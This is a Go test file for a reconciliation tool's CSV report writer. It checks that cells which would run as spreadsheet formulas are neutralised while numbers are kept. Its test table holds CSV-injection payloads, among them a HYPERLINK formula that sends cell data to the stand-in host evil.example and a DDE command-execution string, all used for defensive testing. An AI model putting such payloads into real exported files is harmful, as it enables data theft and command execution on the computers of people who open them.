package reports_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/unico-reconcile/unico-reconcile/reconcile"
	"github.com/unico-reconcile/unico-reconcile/reports"
)

const header = "process_id,kind,local_status,remote_status,fields,http_status,error_code,detail\n"

func TestNewCSVWriter(t *testing.T) {
	t.Run("OK", func(t *testing.T) {
		var buf bytes.Buffer
		cw, err := reports.NewCSVWriter(&buf)
		if err != nil {
			t.Fatal(err)
		}
		if err := cw.Close(); err != nil {
			t.Fatal(err)
		}
		if got, want := buf.String(), header; got != want {
			t.Fatalf("header %q, want %q", got, want)
		}
	})
	t.Run("ErrWrite", func(t *testing.T) {
		if _, err := reports.NewCSVWriter(&errWriter{}); !errors.Is(err, errDiskFull) {
			t.Fatalf("NewCSVWriter: err=%v, want %v", err, errDiskFull)
		}
	})
}

// TestCSVWriter_Write proves that a text cell a spreadsheet would run as a
// formula is neutralised while a number stays a number, and that the file
// parses back to the expected cells.
func TestCSVWriter_Write(t *testing.T) {
	for _, tt := range []struct {
		name, in, want string
	}{
		{"Equals", `=HYPERLINK("http://evil.example/?d="&A1,"click")`, `'=HYPERLINK("http://evil.example/?d="&A1,"click")`},
		{"Plus", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"MinusExpression", "-2+3", "'-2+3"},
		{"At", "@SUM(1+1)", "'@SUM(1+1)"},
		{"Tab", "\tx", "'\tx"},
		{"CarriageReturn", "\rx", "'\rx"},
		{"SpacesEquals", "  =1", "'  =1"},
		{"SpacesAt", " @x", "' @x"},
		{"SpacesNumber", " -1", "' -1"},
		{"MinusAlone", "-", "'-"},
		{"EqualsAlone", "=", "'="},
		{"NegativeNumber", "-1", "-1"},
		{"NegativeFraction", "-12.5", "-12.5"},
		{"PlusNumber", "+3", "+3"},
		{"HTTPStatus", "404", "404"},
		{"ErrorCode", "50001", "50001"},
		{"Status", "3", "3"},
		{"Zero", "0", "0"},
		{"Text", "not a UUID", "not a UUID"},
		{"EqualsInside", "a=b", "a=b"},
		{"MinusInside", "1-2", "1-2"},
		{"OnlySpaces", "  ", "  "},
		{"Empty", "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			d := reconcile.Discrepancy{
				Kind:       reconcile.InvalidInput,
				Local:      reconcile.Local{Row: 2, ProcessID: tt.in, Outcome: reconcile.Outcome{Status: reconcile.StatusFinished}},
				Remote:     &reconcile.Remote{Outcome: reconcile.Outcome{Status: reconcile.StatusCancelled}},
				HTTPStatus: 404,
				ErrorCode:  tt.in,
				Detail:     tt.in,
			}
			got := MustWriteCSV(t, d)
			want := [][]string{
				strings.Split(strings.TrimSuffix(header, "\n"), ","),
				{tt.want, "invalid_input", "3", "4", "", "404", tt.want, tt.want},
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Fatalf("cells (-want +got):\n%s", diff)
			}
		})
	}

	t.Run("Fields", func(t *testing.T) {
		d := reconcile.Discrepancy{
			Kind:  reconcile.ResultMismatch,
			Local: reconcile.Local{ProcessID: idD, Outcome: reconcile.Outcome{Status: reconcile.StatusFinished}},
			Fields: []reconcile.FieldDiff{
				{Name: reconcile.FieldSerpro, Local: "-1", Remote: "-2"},
				{Name: reconcile.FieldLiveness, Local: "1", Remote: ""},
			},
		}
		got := MustWriteCSV(t, d)[1]
		if got, want := got[4], "government.serpro=-1->-2;liveness=1->"; got != want {
			t.Fatalf("fields=%q, want %q", got, want)
		}
		if got, want := got[3], ""; got != want {
			t.Fatalf("remote_status=%q, want %q", got, want)
		}
	})

	t.Run("ErrWrite", func(t *testing.T) {
		cw, err := reports.NewCSVWriter(&errWriter{n: len(header)})
		if err != nil {
			t.Fatal(err)
		}
		if err := cw.Write(allKinds()[0]); !errors.Is(err, errDiskFull) {
			t.Fatalf("Write: err=%v, want %v", err, errDiskFull)
		}
		if err := cw.Close(); !errors.Is(err, errDiskFull) {
			t.Fatalf("Close: err=%v, want %v", err, errDiskFull)
		}
	})
}

// MustWriteCSV encodes ds and parses the result back with encoding/csv.
func MustWriteCSV(tb testing.TB, ds ...reconcile.Discrepancy) [][]string {
	tb.Helper()
	var buf bytes.Buffer
	cw, err := reports.NewCSVWriter(&buf)
	if err != nil {
		tb.Fatal(err)
	}
	for _, d := range ds {
		if err := cw.Write(d); err != nil {
			tb.Fatal(err)
		}
	}
	if err := cw.Close(); err != nil {
		tb.Fatal(err)
	}
	records, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		tb.Fatalf("parse %q: %v", buf.String(), err)
	}
	return records
}
